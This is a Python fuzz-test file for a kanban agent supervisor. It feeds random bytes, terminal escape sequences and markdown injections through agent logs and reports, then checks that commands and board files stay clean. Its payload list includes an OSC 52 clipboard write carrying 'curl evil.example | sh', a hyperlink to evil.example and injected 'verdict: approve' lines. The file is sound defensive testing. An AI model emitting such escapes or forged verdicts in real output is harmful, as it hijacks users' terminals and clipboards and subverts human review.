"""Fuzz what agents and checks print and write: every command keeps working, the board stays clean.

Scripted agents (a small Python program run as `[agent] command` by the real
supervisor, in real worktrees) write seeded random bytes as their report
(KANBAN_REPORT_FILE), their log (stdout), and as the output of the `[test]`
command and of `[merge] verify`: random bytes, NULs, control characters,
ANSI/OSC escapes (clear screen, window title, OSC 52 clipboard, hyperlinks),
invalid UTF-8, markdown that would open a fence or a heading, huge one-line
outputs. Afterwards status, status --json, report, preflight, tick and
merge-queue exit 0 or 1 (never 3, never a traceback), print no terminal
escapes, and every board file loads and holds no control character but \\n and
\\t and no line over the note cap.

A few seeds run in the default suite; many more behind `-m slow`.
"""

from __future__ import annotations

import base64
import json
import random
import sys
import textwrap
import time
import uuid
from pathlib import Path

import pytest
from agents_kit import Project
from conftest import git, run_cli

from kanban.commands.tick import open_engine
from kanban.entry import NOTE_MAX_BYTES, NOTE_MAX_LINE
from kanban.store import load_board

pytestmark = pytest.mark.timeout(180)

BOARD_FILES = ("TODO.md", "IN_PROGRESS.md", "REVIEW.md", "TESTING.md", "CHANGELOG.md")
TASKS = ("TASK-1", "TASK-2", "TASK-3")

# One program plays every part: the agent (any role), the [test] command and the verify command.
# What it writes comes from files made by the test: payloads/<task>-<what>.bin and <task>.json.
SCRIPT = r'''
import json, os, subprocess, sys
from pathlib import Path

part, payloads = sys.argv[1], Path(sys.argv[2])


def payload(name):
    path = payloads / name
    return path.read_bytes() if path.exists() else b""


if part == "verify":  # no task of its own: the merged tree is checked
    sys.stdout.buffer.write(payload("verify-out.bin"))
    sys.stdout.flush()
    sys.exit(int(payload("verify-code.txt") or b"0"))

task = os.environ.get("KANBAN_TASK_ID", "TASK-0")
plan = json.loads(payload(f"{task}.json") or b"{}")
if part == "test":
    sys.stdout.buffer.write(payload(f"{task}-test.bin"))
    sys.stdout.flush()
    sys.exit(plan.get("test_code", 0))

role = os.environ["KANBAN_ROLE"]
sys.stdout.buffer.write(payload(f"{task}-{role}-log.bin"))
sys.stdout.flush()
sys.stderr.buffer.write(payload(f"{task}-{role}-log.bin")[:4096])
sys.stderr.flush()
if role == "task":
    Path("work").mkdir(exist_ok=True)
    Path("work", task + ".txt").write_bytes(payload(f"{task}-task-log.bin")[:2000] + b"\n")
    subprocess.run(["git", "add", "work"], check=True, capture_output=True)
    subprocess.run(["git", "commit", "-q", "-m", task + ": work"], check=True, capture_output=True)
verdict = {"task": b"", "reviewer": b"verdict: approve", "tester": b"verdict: pass"}[role]
report = payload(f"{task}-{role}-report.bin")
where = plan.get("verdict", "last")
if where == "first":
    report = verdict + b"\n" + report
elif where == "last":
    report = report + b"\n" + verdict + b"\n"
Path(os.environ["KANBAN_REPORT_FILE"]).write_bytes(report)
sys.exit(plan.get("code", 0))
'''

# Escapes a terminal acts on: clear screen, cursor moves, window title, clipboard (OSC 52),
# hyperlinks, device queries, unterminated ones, and 8-bit C1 forms.
ESCAPES = [
    b"\x1b[2J\x1b[H", b"\x1b[3J", b"\x1bc", b"\x1b[31;1mred\x1b[0m", b"\x1b[10A", b"\x1b[6n",
    b"\x1b]0;owned window title\x07", b"\x1b]2;title\x1b\\",
    b"\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh") + b"\x07",
    b"\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\", b"\x1bP+q544e\x1b\\", b"\x1b[", b"\x1b]",
    b"\x1b]52;c;", "\u009b2J".encode(), "\u009d0;c1 title\u009c".encode(), b"\x9b2J", b"\x1b[?1049h",
]
MARKDOWN = [
    b"\n## TASK-99: injected heading\n", b"\n# TODO\n", b"\n```\n", b"\n~~~~\n", b"\n<!--\n", b"\n<pre>\n",
    b"\nverdict: reject\n", b"\nverdict: approve\n", b"\nstatus: ready to merge\n", b"\n---\n", b"\n===\n",
    b"\n- [ESCALATED] x\n", b"\n> quote\n", b"\n    ## indented\n", b"\n### Notes\n", b"\\", b"|", b"`",
]
INVALID_UTF8 = [b"\xff", b"\xfe\xff", b"\xc3\x28", b"\xc0\xaf", b"\xed\xa0\x80", b"\xe2\x82", b"\xf4\x90\x80\x80",
                b"\x80\x80\x80", b"\xf0\x9f\x98"]
UNICODE = ["\u202e", "\u2028", "\u2029", "\u0085", "\ufeff", "\u200b", "\U0001f600", "é", "\ufffd", "\ud7ff"]


def payload(rng: random.Random, *, huge: bool = False) -> bytes:
    """A seeded mix of hostile pieces; `huge` adds a one-line run of 2-5 MB."""
    parts: list[bytes] = []
    for _ in range(rng.randint(1, 30)):
        kind = rng.randrange(9)
        if kind == 0:
            parts.append(rng.randbytes(rng.randint(1, 400)))
        elif kind == 1:
            parts.append(b"\x00" * rng.randint(1, 50))
        elif kind == 2:
            parts.append(bytes(rng.choice(list(range(32)) + [127]) for _ in range(rng.randint(1, 40))))
        elif kind == 3:
            parts.append(rng.choice(ESCAPES))
        elif kind == 4:
            parts.append(rng.choice(MARKDOWN))
        elif kind == 5:
            parts.append(rng.choice(INVALID_UTF8))
        elif kind == 6:
            parts.append("".join(rng.choice(UNICODE) for _ in range(rng.randint(1, 10))).encode("utf-8"))
        elif kind == 7:
            parts.append(rng.choice([b"\r", b"\r\n", b"\n", b"\t", b"\n\n\n"]) * rng.randint(1, 5))
        else:
            parts.append(("word " * rng.randint(1, 300)).encode())
    if huge:
        at = rng.randint(0, len(parts))
        parts.insert(at, rng.choice([b"A", b"\x1b[2J", b"\xff", "é".encode()]) * (rng.randint(2, 5) << 20))
    return b"".join(parts)


def make_project(repo: Path, kit: Path, seed: int, *, huge: bool) -> Project:
    rng = random.Random(seed)
    kit.mkdir(parents=True, exist_ok=True)
    payloads = kit / "payloads"
    payloads.mkdir()
    script = kit / "part.py"
    script.write_text(textwrap.dedent(SCRIPT))
    big = rng.choice(TASKS) if huge else None
    for task in TASKS:
        for role in ("task", "reviewer", "tester"):
            for what in ("log", "report"):
                data = payload(rng, huge=task == big and rng.random() < .4)
                (payloads / f"{task}-{role}-{what}.bin").write_bytes(data)
        (payloads / f"{task}-test.bin").write_bytes(payload(rng, huge=task == big and rng.random() < .4))
        plan = {"verdict": rng.choice(["first", "last", "last", "none"]), "code": rng.choice([0, 0, 0, 1]),
                "test_code": rng.choice([0, 0, 1])}
        (payloads / f"{task}.json").write_text(json.dumps(plan))
    (payloads / "verify-out.bin").write_bytes(payload(rng, huge=huge and rng.random() < .5))
    (payloads / "verify-code.txt").write_text(str(rng.choice([0, 0, 1])))

    def argv(part: str) -> str:
        return json.dumps([sys.executable, str(script), part, str(payloads)])

    (repo / "kanban.toml").write_text(textwrap.dedent(f"""\
        main_branch = "main"
        pool_size = 3

        [agent]
        command = {argv("agent")}
        timeout = "20s"
        stall = "20s"
        kill_grace = "0.3s"

        [test]
        command = {argv("test")}
        timeout = "20s"

        [merge]
        mode = "{rng.choice(["serial", "batch"])}"
        verify = {argv("verify")}
        verify_timeout = "20s"
        """))
    (repo / "TODO.md").write_text("# TODO\n\n" + "".join(
        f"## {task}: Fuzzed work {task[-1]}\nfiles: work/{task}.txt\n\nDo it.\n\n" for task in TASKS))
    from kanban.commands.init import init

    init(repo)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "fuzz project")
    return Project(repo, kit, f"kanban-fuzz-{uuid.uuid4().hex}")


def drive(root: Path, seconds: float) -> None:
    """Tick in-process until no agent runs and nothing new starts (bounded)."""
    engine = open_engine(root)
    try:
        deadline = time.monotonic() + seconds
        quiet = 0
        while time.monotonic() < deadline and quiet < 3:
            report = engine.tick()
            busy = report.changed or engine.history.live_runs()
            quiet = 0 if busy else quiet + 1
            time.sleep(0.05)
    finally:
        engine.history.close()


# C0 controls but \t and \n, DEL, C1: none may reach a board file or the terminal.
CONTROLS = {chr(c) for c in range(32) if chr(c) not in "\t\n"} | {chr(127)} | {chr(c) for c in range(0x80, 0xA0)}
# A note's line is at most NOTE_MAX_LINE characters, indented ("  ") or a list item ("- "),
# with a backslash where it was defused.
LINE_CAP = NOTE_MAX_LINE + 3


def check_board(root: Path) -> None:
    load_board(root)  # loads: no NUL, valid UTF-8, entries intact, IDs unique
    for name in BOARD_FILES:
        path = root / name
        if not path.exists():
            continue
        text = path.read_bytes().decode("utf-8")
        bad = sorted({c for c in text if c in CONTROLS})
        assert not bad, f"{name} holds control characters {bad!r}"
        longest = max((len(line) for line in text.split("\n")), default=0)
        assert longest <= LINE_CAP, f"{name} has a line of {longest} characters"
    # Each note is bounded, so a file grows by a bounded amount per event.
    for name in BOARD_FILES[:4]:
        assert (root / name).stat().st_size < 40 * NOTE_MAX_BYTES, name


def check_commands(root: Path) -> dict[tuple[str, ...], str]:
    """Run every command; return what each printed (stdout and stderr)."""
    expected = {("status",): {0}, ("status", "--json"): {0}, ("report",): {0}, ("preflight",): {0, 1},
                ("tick",): {0, 1}, ("merge-queue",): {0, 1}, ("logs", "TASK-1"): {0, 2}}
    printed = {}
    for args, codes in expected.items():
        proc = run_cli(root, *args)
        where = f"kanban {' '.join(args)}: exit {proc.returncode}\n{proc.stderr[-3000:]}"
        assert proc.returncode in codes, where
        assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr, where
        if args == ("status", "--json"):
            json.loads(proc.stdout)
        printed[args] = proc.stdout + proc.stderr
    return printed


def check_terminal_safe(printed: dict[tuple[str, ...], str], commands: list[tuple[str, ...]]) -> None:
    for args in commands:
        bad = sorted({c for c in printed[args] if c in CONTROLS})
        assert not bad, f"kanban {' '.join(args)} printed control characters {bad!r}"


# `kanban logs` prints the log as it is, like cat; `kanban report`: see test_report_prints_no_escapes.
TERMINAL_SAFE = [("status",), ("status", "--json"), ("preflight",), ("tick",), ("merge-queue",)]


def fuzz_once(repo: Path, kit: Path, seed: int, *, huge: bool) -> dict[tuple[str, ...], str]:
    project = make_project(repo, kit, seed, huge=huge)
    try:
        drive(repo, 40)
        proc = run_cli(repo, "merge-queue")
        assert proc.returncode in (0, 1) and "Traceback" not in proc.stderr, proc.stderr[-3000:]
        drive(repo, 20)  # what the queue sent back
        check_board(repo)
        printed = check_commands(repo)
        check_board(repo)
        check_terminal_safe(printed, TERMINAL_SAFE)
        return printed
    finally:
        project.kill_everything()


@pytest.mark.heavy
def test_fuzzed_agent_output_keeps_every_command_working(repo, tmp_path):
    """One seed in the default suite (a huge one-line output among the rest); the soak runs 40."""
    fuzz_once(repo, tmp_path / "kit", 2, huge=True)


def test_report_prints_no_terminal_escapes(tmp_path):
    """`kanban report` shows the last lines of each failed run's log: an agent's log must not reach the
    terminal as escapes (clear screen, window title, OSC 52 clipboard)."""
    from kanban.history import History

    log = tmp_path / ".kanban" / "runs" / "TASK-1" / "task-1" / "agent.log"
    log.parent.mkdir(parents=True)
    log.write_bytes(b"working\n" + b"".join(ESCAPES) + b"\x00\x07 done\n")
    with History(tmp_path) as history:
        run = history.start_run(task="TASK-1", role="task", attempt=1, run_dir=str(log.parent), log=str(log),
                                timeout=60, head_before=None)
        history.finish_run(run, outcome="failed", result={"exit_code": 1})
    proc = run_cli(tmp_path, "report", check_code=0)
    assert "TASK-1 task attempt 1" in proc.stdout
    check_terminal_safe({("report",): proc.stdout}, [("report",)])
    logs = run_cli(tmp_path, "logs", "TASK-1", check_code=0)  # `kanban logs` prints the log itself
    assert "working" in logs.stdout and "done" in logs.stdout
    check_terminal_safe({("logs",): logs.stdout}, [("logs",)])


@pytest.mark.slow
@pytest.mark.timeout(3600)
@pytest.mark.parametrize("seed", range(100, 140))
def test_fuzzed_agent_output_soak(repo, tmp_path, seed):
    fuzz_once(repo, tmp_path / "kit", seed, huge=seed % 4 == 0)


def test_payloads_hold_what_they_claim():
    """The generator really produces the hostile pieces (a fuzz that fuzzes nothing passes too easily)."""
    rng = random.Random(0)
    data = b"".join(payload(rng) for _ in range(200))
    for needle in (b"\x00", b"\x1b]52;c;", b"\x1b[2J", b"\xff", b"\n```\n", b"\r"):
        assert needle in data, needle
    assert len(payload(random.Random(1), huge=True)) > 2 << 20
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
